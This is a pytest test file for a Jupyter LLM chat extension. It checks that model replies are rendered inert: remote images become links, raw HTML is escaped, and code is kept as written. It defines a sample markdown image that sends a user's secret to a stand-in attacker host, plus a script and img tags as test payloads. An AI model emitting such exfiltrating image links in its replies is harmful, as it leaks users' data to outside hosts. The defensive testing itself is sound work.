"""What a reply may make the browser do (issue 29, item 7): remote images are links unless the
user opts in, data: images stay images, raw HTML is shown as text, code is left as written.
The end-to-end cases stream a hostile reply from a server written for the test."""

from __future__ import annotations

from collections.abc import Iterator
from typing import Any

import pytest
from IPython.utils.capture import capture_output

import nbllm
from nbllm import ProviderConfig
from nbllm._safe_markdown import inert_markdown
from tests.hostile_server import chat_events, hostile

EXFILTRATE = "![chart](https://attacker.example/collect?q=the-users-secret)"
PIXEL = "![dot](data:image/png;base64,iVBORw0KGgo=)"


@pytest.mark.parametrize(
    ("reply", "expected"),
    [
        (EXFILTRATE, "[image: chart](https://attacker.example/collect?q=the-users-secret)"),
        ("![](http://a.example/x.png 'title')", "[image: http://a.example/x.png](http://a.example/x.png)"),
        (
            "![logo][ref]\n\n[ref]: https://a.example/l.png",
            "[image: logo][ref]\n\n[ref]: https://a.example/l.png",
        ),
        (PIXEL, PIXEL),
        ("<img src=https://a.example/p>", "&lt;img src=https://a.example/p>"),
        ("<script>alert(1)</script>", "&lt;script>alert(1)&lt;/script>"),
        ("`<b>` and `![x](http://a)` stay code", "`<b>` and `![x](http://a)` stay code"),
        (
            "```html\n<b>![x](http://a)</b>\n```\nafter <i>",
            "```html\n<b>![x](http://a)</b>\n```\nafter &lt;i>",
        ),
        ("> a quote, 2 > 1 & **bold**", "> a quote, 2 > 1 & **bold**"),
    ],
    ids=["remote", "titled", "reference", "data-uri", "img-tag", "script", "code-span", "fence", "plain"],
)
def test_replies_are_made_inert(reply: str, expected: str) -> None:
    assert inert_markdown(reply) == expected


def test_the_opt_in_keeps_remote_images_but_never_raw_html() -> None:
    assert inert_markdown(EXFILTRATE + " <img src=x>", remote_images=True) == EXFILTRATE + " &lt;img src=x>"


@pytest.fixture
def final_mode(ip: Any) -> Iterator[Any]:
    magics = ip.magics_manager.registry["ChatMagics"]
    before = magics.display_mode, magics.remote_images
    magics.display_mode = "final"
    yield magics
    magics.display_mode, magics.remote_images = before


def _final_markdown(ip: Any, line: str) -> str:
    with capture_output() as captured:
        ip.run_cell_magic("chat", line, "Show me the chart")
    return str(captured.outputs[-1].data["text/markdown"])


def test_a_cell_shows_a_remote_image_as_a_link_by_default(ip: Any, final_mode: Any) -> None:
    with hostile(
        lambda *_: (200, "text/event-stream", chat_events(f"Here: {EXFILTRATE} {PIXEL} <img src=x>"))
    ) as s:
        nbllm.get_store().add_provider(ProviderConfig(name="h", url=s.base_url, auth="none", models=["m"]))
        shown = _final_markdown(ip, "h/m")
        assert "![chart]" not in shown and "[image: chart](https://attacker.example/" in shown
        assert PIXEL in shown and "<img" not in shown
        assert nbllm.last().text.startswith("Here: ![chart]")  # type: ignore[union-attr]  # the text itself is intact

        assert "![chart](https://attacker.example/" in _final_markdown(ip, "h/m --remote-images")
        final_mode.remote_images = True
        assert "![chart](https://attacker.example/" in _final_markdown(ip, "h/m")


def test_a_result_renders_itself_inert_too() -> None:
    result = nbllm.ChatResult(text=EXFILTRATE, model="p/m")
    assert "![chart]" not in result._repr_markdown_()
